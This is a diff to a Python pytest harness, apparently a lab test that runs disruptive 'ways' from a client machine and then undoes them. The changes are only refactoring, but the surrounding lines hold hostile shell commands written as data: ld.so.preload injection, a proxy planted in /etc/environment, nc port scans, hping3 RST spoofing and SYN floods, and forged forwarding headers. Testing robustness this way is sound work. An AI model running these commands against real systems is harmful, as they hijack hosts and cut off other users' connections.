@@ -11,7 +11,7 @@ import json
 import os
 import random
 from collections.abc import Iterator
-from contextlib import contextmanager
+from contextlib import contextmanager, suppress
 from pathlib import Path
 
 import pytest
@@ -166,7 +166,7 @@ WAYS = {
         "echo /tmp/way/no.so >/etc/ld.so.preload; printf 'insecure\\nresolve = web:80:127.0.0.1\\n' >~/.curlrc; back python3 page.py $port"
     ),
     "a proxy for every program": (
-        "echo \"http_proxy=http://$own:8N8\" >>/etc/environment; back python3 page.py 8N8"
+        'echo "http_proxy=http://$own:8N8" >>/etc/environment; back python3 page.py 8N8'
     ),
     "the scripts of wrk": "for s in /usr/local/share/wrk/*.lua; do echo >$s; done",
     "patience": "sysctl -qw net.ipv4.tcp_syn_retries=9 net.ipv4.tcp_retries2=9; iptables -A INPUT -p tcp --tcp-flags RST RST -j DROP",
@@ -183,14 +183,14 @@ WAYS = {
         "net=${own%.*}; for l in 2 3 4 5 6 7 8 130 180 250; do for p in 22 80 111 2375 8080; do timeout 0.2 nc -z $net.$l $p; done; done"
     ),
     "reset the connections of the users": (
-        "net=${own%.*}; back timeout 20 bash -c \"while :; do hping3 -q -R -p $port -a $net.1N0 -c 20 -i u1000 $other; done\""
+        'net=${own%.*}; back timeout 20 bash -c "while :; do hping3 -q -R -p $port -a $net.1N0 -c 20 -i u1000 $other; done"'
     ),
     "answer SYNs of the users": (
         "back timeout 30 hping3 -q -SA -s $port -p 4N000 -a $other -c 300 -i u50000 ${own%.*}.150"
     ),
     "keep the users busy": "back timeout 5 hping3 -q -S -p 80 -c 2000 -i u1000 ${own%.*}.1N0",
     "open connections that say nothing": (
-        f"back timeout 20 python3 -c 'import socket, time; s = [socket.create_connection((\"@SERVER@\", @PORT@), 1) for _ in range(9)]; time.sleep(15)'"
+        "back timeout 20 python3 -c 'import socket, time; s = [socket.create_connection((\"@SERVER@\", @PORT@), 1) for _ in range(9)]; time.sleep(15)'"
     ),
     "a request with every header": (
         "curl -s -m 3 -o /dev/null -H 'X-Forwarded-For: 127.0.0.1' -H 'X-Accel-Redirect: /index.html' -H 'Range: bytes=0-N' http://@SERVER@:$port/"
@@ -245,10 +245,8 @@ def drawn(lab_id: str) -> list[tuple[str, int]]:
 def tried(client: Machine, commands: str) -> Iterator[None]:
     """Type the commands on client, and undo them in the end."""
     try:
-        try:
-            client.run(f"bash -c {json.dumps('true')}; bash <<'_way_'\n{commands}\n_way_", 40)
-        except CannotRun:
-            pass  # a way that takes too long has been tried all the same
+        with suppress(CannotRun):  # a way that takes too long has been tried all the same
+            client.run(f"bash <<'_way_'\n{commands}\n_way_", 40)
         yield
     finally:
         client.run(f"bash <<'_way_'\n{UNDO}\n_way_", 30)
